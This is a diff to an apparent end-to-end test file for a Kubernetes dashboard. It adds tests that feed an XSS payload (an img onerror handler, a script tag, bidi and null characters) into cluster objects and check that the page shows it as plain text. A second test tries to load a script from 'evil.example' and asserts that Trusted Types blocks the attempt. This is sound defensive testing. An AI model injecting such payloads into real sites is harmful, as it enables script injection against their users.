@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import http.client
 import json
+import re
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -197,8 +198,72 @@ def test_a_reload_shows_the_same(visit: Visit) -> None:
 
 def test_the_pictures_of_the_documentation_can_be_made_again(site: Site) -> None:
     tool = [sys.executable, str(ROOT / "tools/picture_dashboard.py"), "--check", "--data", str(site.data)]
-    made = subprocess.run(tool, capture_output=True, text=True, timeout=250, check=False)
+    made = subprocess.run(tool, capture_output=True, text=True, timeout=200, check=False)
     assert made.returncode == 0, made.stdout + made.stderr
+
+
+HOSTILE = """<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>\u202edeppilf\u0000"""
+
+
+def event(number: int, message: str) -> dict[str, Any]:
+    about = {"apiVersion": "v1", "kind": "ConfigMap", "namespace": "storm", "name": "storm-0"}
+    return {
+        "apiVersion": "v1",
+        "kind": "Event",
+        "metadata": {"name": f"storm-{number}", "namespace": "storm"},
+        "involvedObject": about,
+        "type": "Warning",
+        "reason": "Storm",
+        "message": message,
+        "lastTimestamp": "2026-01-01T00:00:00Z",
+    }
+
+
+def test_strange_content_stays_text_and_a_storm_stays_small(visit: Visit, site: Site) -> None:
+    hostile = HOSTILE.replace("\u0000", "")
+    fat = {"example.com/fat": "x" * 200_000, "example.com/hostile": hostile}
+    objects: list[dict[str, Any]] = [
+        {
+            "apiVersion": "v1",
+            "kind": "ConfigMap",
+            "metadata": {"name": f"storm-{number}", "namespace": "storm", "annotations": fat if not number else {}},
+        }
+        for number in range(300)
+    ]
+    objects += [event(number, hostile if number % 3 else f"{hostile} {number}") for number in range(300)]
+    site.kubectl.ok("create", "namespace", "storm")
+    site.kubectl.ok(
+        "create", "-f", "-", stdin=json.dumps({"apiVersion": "v1", "kind": "List", "items": objects}), seconds=120
+    )
+    title = visit.page.title()
+    opened(visit, "#/kinds/core/configmaps?ns=storm")
+    expect(visit.page.get_by_role("table")).to_have_attribute("aria-rowcount", re.compile("30[0-9]"))
+    assert visit.page.locator("[role=row]").count() <= 100
+    opened(visit, "#/timeline?ns=storm")
+    expect(visit.page.locator("main")).to_contain_text("onerror")
+    assert visit.page.locator(".timeline li").count() <= 100
+    opened(visit, "#/object/core/configmaps/storm/storm-0?ns=storm")
+    expect(visit.page.locator("textarea")).to_have_value(re.compile("onerror"))
+    assert visit.page.locator("main img, main script").count() == 0
+    assert visit.page.title() == title
+    assert visit.complaints == []
+    site.kubectl.ok("delete", "namespace", "storm", "--timeout=100s", seconds=110)
+
+
+def test_scripts_of_others_do_not_run(visit: Visit) -> None:
+    """The policy of the page holds even against somebody who can put text into it."""
+    tried = visit.page.evaluate(
+        """() => {
+          const said = [];
+          const attempt = (name, what) => { try { what(); said.push(name); } catch { /* refused */ } };
+          attempt("innerHTML", () => { document.createElement("div").innerHTML = "<b>x</b>"; });
+          attempt("policy", () => { trustedTypes.createPolicy("other", { createHTML: (text) => text }); });
+          attempt("again", () => { trustedTypes.createPolicy("homeport", { createHTML: (text) => text }); });
+          attempt("script", () => { document.createElement("script").src = "https://evil.example/x.js"; });
+          return said;
+        }"""
+    )
+    assert tried == []
 
 
 def test_the_tree_follows_a_change(visit: Visit, site: Site) -> None:
